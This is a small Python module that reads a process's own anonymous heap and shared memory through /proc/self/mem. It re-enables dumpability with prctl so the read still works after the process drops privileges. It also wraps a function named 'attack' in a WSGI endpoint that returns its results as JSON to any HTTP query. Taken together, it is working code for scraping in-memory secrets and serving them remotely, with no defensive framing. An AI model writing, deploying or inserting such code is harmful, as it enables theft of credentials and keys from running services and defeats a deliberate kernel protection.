"""What a process may read of its own memory, and how it answers."""

import ctypes
import json
import re
from urllib.parse import parse_qsl

PRIVATE = "rw-p"
SHARED = "rw-s"
PR_SET_DUMPABLE = 4


def regions(kind):
    """Yield begin and end of what belongs to no file: heap and arenas, or memory that is shared."""
    with open("/proc/self/maps") as stream:
        for line in stream:
            found = re.match(rf"(\w+)-(\w+) {kind} \w+ (\S+) \d+ +(\S*)", line)
            if found and (found[3] == "00:00" or found[4] == "/dev/zero"):
                yield int(found[1], 16), int(found[2], 16)


def contents(kind):
    """Yield the bytes of these regions.

    Having changed its uid, a daemon may not open its own `mem`: it only has to ask the kernel to be
    dumpable again.
    """
    ctypes.CDLL(None).prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
    with open("/proc/self/mem", "rb", 0) as memory:
        for begin, end in regions(kind):
            memory.seek(begin)
            yield memory.read(end - begin)


def answering(attack):
    """Make a WSGI application of a function from the query's words to what it got."""

    def application(environ, start_response):
        words = dict(parse_qsl(environ["QUERY_STRING"]))
        body = json.dumps(attack(**words)).encode()
        start_response("200 OK", [("Content-Type", "application/json")])
        return [body]

    return application
